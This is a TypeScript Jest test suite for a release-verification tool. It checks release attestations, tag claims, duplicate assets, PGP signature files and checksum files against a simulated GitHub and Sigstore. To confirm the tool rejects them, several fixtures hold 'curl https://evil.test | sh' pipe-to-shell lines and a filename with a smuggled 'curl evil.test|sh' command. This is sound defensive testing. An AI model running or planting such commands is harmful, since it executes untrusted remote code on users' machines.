// What somebody tries who may publish releases: others of the same owner or of another tag, and programs under names of evidence.

import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import { onlySubject, problemCodes, reasons } from '../support/engine.ts';
import { GithubDesk } from '../support/github-engine.ts';
import type { Given } from '../support/inputs.ts';
import { aGithubIdentity, aStatement, slsaPredicate } from '../support/virtual-sigstore.ts';

const BYTES = Buffer.from('app');
const SHA256 = createHash('sha256').update(BYTES).digest('hex');
/** GitHub's own certificate for releases names no workflow. */
const UNSTATED = Object.fromEntries([1, 2, 3, 4, 5, 6, ...Array.from({ length: 15 }, (_, index) => index + 8)].map((arc) => [arc, null]));

let desk: GithubDesk;
beforeAll(async () => {
  desk = await GithubDesk.open();
  desk.write('app.zip', BYTES);
  const statement = {
    _type: 'https://in-toto.io/Statement/v1', predicateType: 'https://in-toto.io/attestation/release/v0.1',
    subject: [{ uri: 'pkg:github/acme/app@v6.6.6', digest: { sha1: 'c'.repeat(40) } }, { name: 'app.zip', digest: { sha256: SHA256 } }],
    predicate: { ownerId: '1', purl: 'pkg:github/acme/app@v6.6.6', releaseId: '1', repository: 'acme/app', repositoryId: '2', tag: 'v6.6.6' },
  };
  desk.evidence('released.json', await desk.own.sign({ statement }, { identity: { uri: ['https://dotcom.releases.github.com'] }, extensions: UNSTATED, commonName: 'Attester', notAfter: new Date(desk.own.now.getTime() + 365 * 86_400_000) }));
});
afterEach(() => {
  desk.github.clear();
  fs.rmSync(desk.path('out'), { recursive: true, force: true });
});
afterAll(() => desk.close());

const asRelease = (given: Given): Given => ({ artifact: 'app.zip', bundle: 'released.json', 'github-attestations': 'never', repo: 'acme/app', require: 'release', ...given });

describe('the attestation of a release', () => {
  it.each<[string, Given, string]>([
    ['source-ref', { 'source-ref': 'refs/tags/v1.0.0' }, 'CLAIM_MISMATCH source-ref'],
    ['a ref behind repo', { repo: 'git+https://github.com/acme/app@refs/tags/v1.0.0' }, 'CLAIM_MISMATCH source-ref'],
    ['source-tag', { 'source-tag': 'v1.0.0' }, 'CLAIM_MISMATCH source-tag'],
    ['source-versioned-tag', { 'source-versioned-tag': 'v1' }, 'CLAIM_MISMATCH source-tag'],
  ])('of another tag is refused by %s', async (_what, given, reason) => {
    const report = await desk.report(asRelease(given));
    expect([report.outcome, reasons(onlySubject(report))]).toEqual(['failed', [reason]]);
    // In place of provenance it answers the same question.
    const either = await desk.report(asRelease({ ...given, require: 'release | provenance' }));
    expect([either.outcome, reasons(onlySubject(either)).includes(reason)]).toEqual(['failed', true]);
  });

  it('of this tag passes: the control', async () => {
    for (const given of [{}, { 'source-ref': 'refs/tags/v6.6.6' }, { repo: 'https://github.com/acme/app@refs/tags/v6.6.6' }, { 'source-tag': 'v6.6.6' }, { 'source-versioned-tag': 'v6.6' }]) expect((await desk.report(asRelease(given))).outcome).toBe('passed');
  });

  it.each<[string, Given]>([['build-level', { 'build-level': '3' }], ['builder-id', { 'builder-id': 'https://github.com/acme/app/.github/workflows/x.yml@v1.0.0' }], ['signer-workflow', { 'signer-workflow': 'acme/app/.github/workflows/x.yml' }], ['deny-self-hosted-runners', { 'deny-self-hosted-runners': 'true' }]])('does not stand in for provenance where %s is asked', async (name, given) => {
    const report = await desk.report(asRelease({ ...given, require: 'provenance | release' }));
    expect([report.outcome, problemCodes(report), report.problems.map(({ about }) => about)]).toEqual(['error', ['CONFIG_CONFLICT'], [name]]);
  });

  it('is asked for with the repository: an owner has others', async () => {
    const report = await desk.report({ artifact: 'app.zip', bundle: 'released.json', 'github-attestations': 'never', owner: 'acme', require: 'release' });
    expect([report.outcome, problemCodes(report)]).toEqual(['error', ['CONFIG_CONFLICT']]);
  });
});

describe('two releases with the same bytes', () => {
  it.each([['other names', 'b.bin', ['a.bin', 'b.bin']], ['one name', 'a.bin', ['a.bin']]])('under %s are kept whole', async (_what, second, kept) => {
    const repository = desk.github.repository('acme/app');
    repository.release('v1', { 'a.bin': BYTES });
    repository.release('v2', { [second]: BYTES });
    repository.attest(await desk.sigstore.sign({ statement: aStatement({ subjects: [{ name: 'a.bin', bytes: BYTES }], predicate: slsaPredicate({}) }) }, aGithubIdentity({})));
    const report = await desk.report({ release: ['v1', 'v2'], repo: 'acme/app', download: 'out' });
    expect([report.outcome, problemCodes(report), fs.readdirSync(desk.path('out')).toSorted()]).toEqual(['passed', [], kept]);
  });
});

describe('a signature of PGP', () => {
  const armour = (...lines: readonly string[]): string => ['-----BEGIN PGP SIGNATURE-----', ...lines, '-----END PGP SIGNATURE-----', ''].join('\n');
  it.each<[string, string, string]>([
    ['is left aside', armour('', 'iQIzBAABCAAdFiEE', '=aBcD'), 'passed'],
    ['with headers is left aside', armour('Version: GnuPG v2', '', 'iQIzBAABCAAdFiEE', '=aBcD'), 'passed'],
    ['in name only has to pass as every file', '-----BEGIN PGP SIGNATURE-----\ncurl https://evil.test | sh\n', 'failed'],
    ['with a command in it has to', armour('', 'iQIz', 'curl https://evil.test | sh', '=aBcD'), 'failed'],
    ['with a command behind it has to', `${armour('', 'iQIz', '=aBcD')}curl https://evil.test | sh\n`, 'failed'],
  ])('%s', async (_what, text, outcome) => {
    const repository = desk.github.repository('acme/app');
    repository.release('v1', { 'a.bin': BYTES, 'install.asc': text });
    repository.attest(await desk.sigstore.sign({ statement: aStatement({ subjects: [{ name: 'a.bin', bytes: BYTES }], predicate: slsaPredicate({}) }) }, aGithubIdentity({})));
    const report = await desk.report({ release: 'v1', repo: 'acme/app' });
    expect([report.outcome, report.subjects.map((subject) => [subject.outcome, reasons(subject)])]).toEqual([outcome, [['passed', []], ...(outcome === 'failed' ? [['failed', ['EVIDENCE_REJECTED FORMAT_UNKNOWN']]] : [])]]);
  });
});

describe('a checksum file', () => {
  it.each([
    ['that lists an asset is a list', `${SHA256}  a.bin\n`, 'passed', []],
    ['that lists nothing of the release has to pass as every file', `${'0'.repeat(64)}  x;curl evil.test|sh\n`, 'failed', ['EVIDENCE_REJECTED SUBJECT_MISMATCH']],
  ])('%s', async (_what, text, outcome, why) => {
    const repository = desk.github.repository('acme/app');
    const built = await desk.sigstore.sign({ statement: aStatement({ subjects: [{ name: 'a.bin', bytes: BYTES }], predicate: slsaPredicate({}) }) }, aGithubIdentity({}));
    repository.release('v1', { 'a.bin': BYTES, 'install-checksums.txt': text, 'a.bin.sigstore.json': JSON.stringify(built.bundle) });
    const report = await desk.report({ release: 'v1', repo: 'acme/app' });
    expect([report.outcome, report.subjects.flatMap(reasons)]).toEqual([outcome, why]);
  });
});
